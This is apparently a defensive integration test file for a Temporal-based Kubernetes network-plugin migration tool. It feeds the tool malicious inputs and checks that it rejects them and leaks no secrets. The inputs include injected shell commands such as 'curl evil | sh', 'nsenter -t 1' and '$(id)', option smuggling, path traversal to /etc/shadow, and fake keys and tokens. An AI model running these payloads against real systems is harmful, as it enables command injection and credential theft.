import { randomUUID } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { Client } from '@temporalio/client';
import { DefaultLogger, NativeConnection, Runtime, Worker, bundleWorkflowCode } from '@temporalio/worker';
import { startTemporal, startWorker, type TemporalServer } from '../../lab/cluster/temporal.ts';
import { projectDir } from '../../lab/paths.ts';
import { waitFor } from '../../lab/process.ts';
import { parseInput } from '../../model/input.ts';
import { messageNames } from '../../model/message-schemas.ts';
import { initialState } from '../../model/migration-state.ts';
import { bundleOptions, plain } from '../../worker/bundle.ts';
import type { ForeignRequest } from '../support/foreign-workflows.ts';
import { useLab } from '../support/lab.ts';
import { waitForStableState } from '../support/wait-until-stable.ts';
import { TemporalCli, withPayloads } from '../support/temporal-cli.ts';
import { timeLimits } from '../support/time-limits.ts';

/**
 * Input that a user sends by mistake or on purpose, through the Temporal CLI: each is rejected with a type and a
 * reason, and nothing is changed. At the end, all data that Temporal and the worker have stored is searched for
 * confidential values.
 */
const lab = useLab({ nodes: 0 });
let temporal: TemporalServer;
let before: string;

/** A Secret of the cluster that no answer may contain. */
const clusterSecret = 'c1uster-secret-va1ue';

beforeAll(async () => {
  temporal = await startTemporal(lab());
  await startWorker(lab(), temporal.address);
  await lab().kubectl('apply', '--server-side', '-f', lab().catalogue.canalManifest);
  await lab().kubectl('create', 'secret', 'generic', 'app', `--from-literal=password=${clusterSecret}`);
  before = await waitForStableState(everything);
});

/** Returns the names of the objects that a migration could have changed. */
function everything(): Promise<string> {
  const kinds = 'namespaces,nodes,daemonsets,deployments,configmaps,secrets,crds,clusterroles,serviceaccounts';
  return lab().kubectl(
    'get',
    kinds,
    '-A',
    '-o',
    'jsonpath={range .items[*]}{.kind} {.metadata.uid} {.metadata.generation}{"\\n"}{end}'
  );
}

const good = (more: object = {}): object => ({ cluster: lab().layout.context, ...more });
const key = '-----BEGIN RSA PRIVATE KEY-----\nMIIEvq1w2e3\n-----END RSA PRIVATE KEY-----';
const token = 'eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJzeXN0ZW06bm9kZTphIn0.c2lnbmF0dXJlLXBhcnQ';
const nested = (depth: number): unknown => JSON.parse(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`) as unknown;

/** Description, input, and text of the answer. All inputs are rejected as InvalidInput unless another type is given. */
const inputs: [what: string, input: () => unknown, named: string | RegExp, type?: string][] = [
  ['null', () => null, 'the input'],
  ['a number', () => 7, 'the input'],
  ['a list', () => [good()], 'the input'],
  ['no cluster', () => ({}), 'cluster'],
  ['a cluster of another type', () => ({ cluster: { name: 'x' } }), 'cluster'],
  ['an empty cluster', () => ({ cluster: '' }), 'cluster'],
  ['a cluster that nobody knows', () => ({ cluster: 'nowhere' }), /no context "nowhere"/, 'UnknownCluster'],
  ['a cluster with a shell in it', () => ({ cluster: 'a; curl evil | sh' }), 'cluster'],
  ['a cluster that is an option', () => ({ cluster: '--kubeconfig=/etc/shadow' }), 'cluster'],
  ['a cluster with a line break', () => ({ cluster: 'a\nb' }), 'cluster'],
  ['a cluster that is a path', () => ({ cluster: '../../etc/kubernetes/admin.conf' }), 'cluster'],
  ['a cluster of 10,000 letters', () => ({ cluster: 'x'.repeat(10_000) }), 'cluster'],
  [
    'a kubeconfig instead of a cluster',
    () => ({ cluster: `apiVersion: v1\nclient-key-data: ${key}` }),
    'cluster: looks like a secret',
  ],
  ['an unknown field', () => good({ podCIDR: '10.1.0.0/16' }), 'podCIDR'],
  [
    'fields of an object of JavaScript',
    () => JSON.parse('{"cluster": "x", "__proto__": {"dryRun": true}}') as unknown,
    '__proto__',
  ],
  [
    'such fields in values',
    () => good({ values: JSON.parse('{"constructor": {"prototype": {}}}') as unknown }),
    'values.constructor',
  ],
  ['a CIDR with host bits of nothing', () => good({ podCidr: '300.1.2.3/8' }), 'podCidr'],
  ['a CIDR in use', () => good({ podCidr: '10.244.0.0/16' }), 'pod-cidr-overlap', 'PreflightBlocked'],
  [
    'a node mask larger than its network',
    () => good({ podCidr: '10.245.0.0/24', nodeMaskSize: 16 }),
    'nodeMaskSize: must not be smaller',
  ],
  ['a port that is text', () => good({ tunnelPort: '8473; reboot' }), 'tunnelPort'],
  ['a negative port', () => good({ tunnelPort: -1 }), 'tunnelPort'],
  ['a fraction of a port', () => good({ tunnelPort: 8473.5 }), 'tunnelPort'],
  ['a chart that leads upwards', () => good({ chart: '/charts/../../etc/passwd' }), 'chart: must not contain ".."'],
  ['a relative chart', () => good({ chart: './cilium' }), 'chart'],
  ['a chart that is an option', () => good({ chart: '--post-renderer=/bin/sh' }), 'chart'],
  ['a chart with a shell in it', () => good({ chart: 'oci://quay.io/$(id)' }), 'chart'],
  ['a chart that is a file', () => good({ chart: 'file:///etc/passwd' }), 'chart'],
  ['a chart that is not there', () => good({ chart: '/nowhere/cilium' }), 'chart', 'PreflightBlocked'],
  ['a version that is an option', () => good({ chartVersion: '--version' }), 'chartVersion'],
  ['a version with a path', () => good({ chartVersion: '1.20.2/../../x' }), 'chartVersion'],
  ['values that are a list', () => good({ values: ['--set', 'x=y'] }), 'values'],
  [
    'values that contradict the migration',
    () => good({ values: { tunnelPort: 8472 } }),
    'values.tunnelPort: is set by the migration',
  ],
  [
    'a password in values',
    () => good({ values: { hubble: { relay: { password: 'hunter2-in-va1ues' } } } }),
    'values.hubble.relay.password: looks like a secret',
  ],
  [
    'a private key in values',
    () => good({ values: { hubble: { tls: { server: { key } } } } }),
    'values.hubble.tls.server.key: looks like a secret',
  ],
  [
    'a private key in base64',
    () => good({ values: { tls: { ca: { key: Buffer.from(key).toString('base64') } } } }),
    'values.tls.ca.key: looks like a secret',
  ],
  [
    'a token in a reason',
    () => good({ waivers: [{ check: 'kernel', reason: `because ${token}` }] }),
    'waivers.0.reason: looks like a secret',
  ],
  [
    'a token in an address',
    () => good({ gates: { http: [{ url: `https://user:${token}@x.example` }] } }),
    'gates.http.0.url: looks like a secret',
  ],
  [
    'a password in an address',
    () => good({ gates: { http: [{ url: 'https://ann:hunter2-in-ur1@x.example/' }] } }),
    'gates.http.0.url',
  ],
  ['an address of another kind', () => good({ gates: { http: [{ url: 'file:///etc/shadow' }] } }), 'gates.http.0.url'],
  ['values that are nested without end', () => good({ values: nested(3_000) }), 'nested deeper'],
  [
    'values with very many entries',
    () => good({ values: Object.fromEntries(Array.from({ length: 25_000 }, (_one, index) => [`k${index}`, 1])) }),
    'more than 20000 entries',
  ],
  ['values with a very long text', () => good({ values: { a: 'x'.repeat(400_000) } }), 'more than 250000 characters'],
  [
    'very many problems',
    () => good({ waivers: Array.from({ length: 90 }, () => ({ check: 'nothing' })) }),
    'more problems',
  ],
  ['a waiver of everything', () => good({ waivers: [{ check: '*', reason: 'x' }] }), 'waivers.0.check'],
  ['a waiver without a reason', () => good({ waivers: [{ check: 'kernel', reason: '  ' }] }), 'waivers.0.reason'],
  ['a canary that is no node', () => good({ waves: { canaryNode: 'node; true' } }), /canaryNode|block/, 'any'],
  ['waves of a thousand', () => good({ waves: { maxConcurrency: 1_000 } }), 'waves.maxConcurrency'],
  [
    'a window in a time zone that is none',
    () => good({ windows: [{ start: '22:00', end: '23:00', timeZone: '../../etc' }] }),
    'windows.0.timeZone',
  ],
  ['a prober image with a shell in it', () => good({ proberImage: 'x; nsenter -t 1' }), 'proberImage'],
  ['consent for everything', () => good({ drain: { deleteEmptyDirData: ['*/*'] } }), 'drain.deleteEmptyDirData'],
];

it('has at least forty of them', () => expect(inputs.length).toBeGreaterThanOrEqual(40));

it.each(inputs)('refuses %s', async (_what, input, named, type = 'InvalidInput') => {
  const id = `hostile/${inputs.findIndex(([what]) => what === _what)}`;
  const file = path.join(lab().layout.processesDir, 'input.json');
  await writeFile(file, JSON.stringify(input()));
  const start = ['workflow', 'start', '--type', 'clusterMigration', '--task-queue', 'cni-migration'];
  await temporal.cli(...start, '--workflow-id', id, '--input-file', file);
  const { status, failure } = await new TemporalCli(temporal, '', id).waitForEnd();
  expect({ status, type: failure?.type }).toEqual({
    status: 'FAILED',
    type: type === 'any' ? (expect.any(String) as string) : type,
  });
  expect(failure?.message).toMatch(named);
  // Regardless of the size of the input.
  expect(failure?.message.length).toBeLessThan(20_000);
});

it('refuses an input that is too large for Temporal', async () => {
  const file = path.join(lab().layout.processesDir, 'huge.json');
  await writeFile(file, JSON.stringify(good({ values: { a: 'x'.repeat(5_000_000) } })));
  const start = ['workflow', 'start', '--type', 'clusterMigration', '--task-queue', 'cni-migration'];
  await expect(temporal.cli(...start, '--workflow-id', 'huge', '--input-file', file)).rejects.toThrow(/size|larger/i);
});

/** A running migration accepts signals; this one waits for an API server that never answers. */
it('tolerates every invalid message, and never shows possible secrets', async () => {
  const id = 'hostile/messages';
  const blocked = JSON.stringify({ cluster: 'nowhere' });
  const start = ['workflow', 'start', '--type', 'clusterMigration', '--task-queue', 'nobody-listens'];
  await temporal.cli(...start, '--workflow-id', id, '--input', blocked);
  const bad = [
    'null',
    '7',
    '[]',
    '"x"',
    '{"node": 7}',
    '{"node": "a; reboot"}',
    `{"reason": "${token}"}`,
    '{"__proto__": {}}',
    '{"pod": "../../x"}',
  ];
  for (const name of messageNames) {
    for (const input of bad)
      await temporal.cli('workflow', 'signal', '--workflow-id', id, '--name', name, '--input', input);
  }
  await temporal.cli('workflow', 'signal', '--workflow-id', id, '--name', 'noSuchMessage', '--input', '{}');
  await temporal.cli('workflow', 'terminate', '--workflow-id', id);
});

describe('workflows that an attacker executes on another task queue', () => {
  const taskQueue = 'foreign';
  let connection: NativeConnection;
  let client: Client;
  let worker: Worker;
  let stopped: Promise<void>;
  beforeAll(async () => {
    Runtime.install({ logger: new DefaultLogger('ERROR'), telemetryOptions: { logging: { filter: 'ERROR' } } });
    connection = await NativeConnection.connect({ address: temporal.address });
    client = new Client({ connection });
    const workflowsPath = path.join(projectDir, 'test', 'support', 'foreign-workflows.ts');
    const logger = new DefaultLogger('ERROR');
    const workflowBundle = await bundleWorkflowCode({ ...bundleOptions(plain), workflowsPath, logger });
    worker = await Worker.create({ connection, taskQueue, workflowBundle });
    stopped = worker.run();
  });
  afterAll(async () => {
    worker.shutdown();
    await stopped;
    await connection.close();
  });

  /** Executes such a workflow. Returns the types of the failure that it got. */
  const execute = (request: ForeignRequest, type = 'clusterMigration'): Promise<unknown> =>
    client.workflow.execute(type, { taskQueue, workflowId: `hostile/${randomUUID()}`, args: [request] });

  it.each([
    ['removeCanal', {}, 'clusterMigration'],
    ['acquireLock', { workflowId: 'nobody', runId: 'x' }, 'clusterMigration'],
    ['inspectCluster', {}, 'stranger'],
    ['cordonNode', { node: '--all' }, 'clusterMigration'],
  ])('get no activity %s', async (activity, fields, type) => {
    const argument = { cluster: lab().layout.context, ...fields };

    expect(await execute({ activity, argument }, type)).toBe('CallerRefused');
  });

  it("do not change a node with our node's workflow as their child", async () => {
    await lab().kubectl('create', '-f', await writeNode('victim'));
    const resolved = parseInput({ cluster: lab().layout.context });
    const input = { node: 'victim', forcedPods: [], migration: 'input' in resolved ? resolved.input : {} };
    const readSpec = (): Promise<string> =>
      lab().kubectl('get', 'node', 'victim', '-o', 'jsonpath={.spec.unschedulable}');

    expect(await execute({ child: 'nodeMigration', input })).toBe('CallerRefused');
    expect(await execute({ child: 'nodeRollback', input: { ...input, node: '../x' } })).toBe('InvalidInput');
    expect(await readSpec()).toBe('');
    await lab().kubectl('delete', 'node', 'victim');
  });

  it('pass no state to our migration by continuing as it', async () => {
    const forged = { by: 'ann', reason: 'CHG-4711', at: '2026-01-01T00:00:00.000Z' };
    const approved = { ...initialState().status, phase: 'cleanup', approvals: { plan: forged, cleanup: forged } };
    const state = { ...initialState(), preflight: [], status: approved };

    await expect(execute({ continueWith: [good(), state] })).rejects.toMatchObject({
      cause: { type: 'CallerRefused' },
    });
  });
});

/** Writes the manifest of a node that nothing runs on, and returns its path. */
async function writeNode(name: string): Promise<string> {
  const file = path.join(lab().layout.processesDir, `${name}.json`);
  await writeFile(file, JSON.stringify({ apiVersion: 'v1', kind: 'Node', metadata: { name } }));
  return file;
}

it('has changed nothing', async () => {
  expect(await everything()).toBe(before);
});

it('has stored no part of a kubeconfig and no secret, except in the payloads sent to Temporal', async () => {
  const { kubeconfig, processesDir } = lab().layout;
  const config = JSON.parse(await readFile(kubeconfig, 'utf8')) as { users: { user: Record<string, string> }[] };
  const credentials = config.users.flatMap(({ user }) => Object.values(user)).filter((text) => text.length > 40);
  expect(credentials.length).toBeGreaterThan(0);
  const sent = ['hunter2-in-va1ues', 'hunter2-in-ur1', 'MIIEvq1w2e3', token];
  const secrets = [clusterSecret, ...credentials, ...credentials.map((text) => Buffer.from(text, 'base64').toString())];

  const list = await temporal.cli('workflow', 'list', '--limit', '500', '-o', 'json');
  const ids = (JSON.parse(list) as { execution: { workflowId: string } }[]).map(
    ({ execution }) => execution.workflowId
  );
  expect(ids.length).toBeGreaterThanOrEqual(inputs.length);
  for (const id of ids) {
    interface Event {
      workflowExecutionStartedEventAttributes?: object;
      workflowExecutionSignaledEventAttributes?: object;
    }
    const shown = await temporal.cli('workflow', 'show', '--workflow-id', id, '-o', 'json');
    const { events } = JSON.parse(shown) as { events: Event[] };
    const plain = (part: unknown): string => withPayloads(JSON.stringify(part));
    for (const secret of secrets) expect(plain(events)).not.toContain(secret);
    // The sent text is in the event of its message; it must be in no other event.
    const ownEvents = events.filter(
      (event) =>
        event.workflowExecutionStartedEventAttributes === undefined &&
        event.workflowExecutionSignaledEventAttributes === undefined
    );
    for (const word of sent) expect(plain(ownEvents)).not.toContain(word);
  }
  const log = await readFile(path.join(processesDir, 'worker.log'), 'utf8');
  for (const word of [...secrets, ...sent]) expect(log).not.toContain(word);
});

it('shows neither in details nor in answers to queries', async () => {
  // A running migration: without nodes it never waits for the plan's approval, so this one is started and queried at
  // once.
  const id = 'hostile/details';
  const start = ['workflow', 'start', '--type', 'clusterMigration', '--task-queue', 'cni-migration'];
  const signal = ['--signal-name', 'approve', '--signal-input', JSON.stringify({ node: token })];
  await temporal.cli(
    'workflow',
    'signal-with-start',
    ...start.slice(2),
    '--workflow-id',
    id,
    '--input',
    JSON.stringify(good()),
    ...signal
  );
  await new TemporalCli(temporal, '', id).waitForEnd();
  const answers = async (): Promise<string> =>
    temporal.cli('workflow', 'query', '--workflow-id', id, '--name', 'status');
  await waitFor('an answer', async () => (await answers().catch(() => '')).includes('ignored'), {
    timeoutMs: timeLimits.localChange,
  });
  expect(await answers()).not.toContain(token);
  expect(await answers()).toContain('not shown');
  expect(await temporal.cli('workflow', 'metadata', '--workflow-id', id).catch(() => '')).not.toContain(token);
});
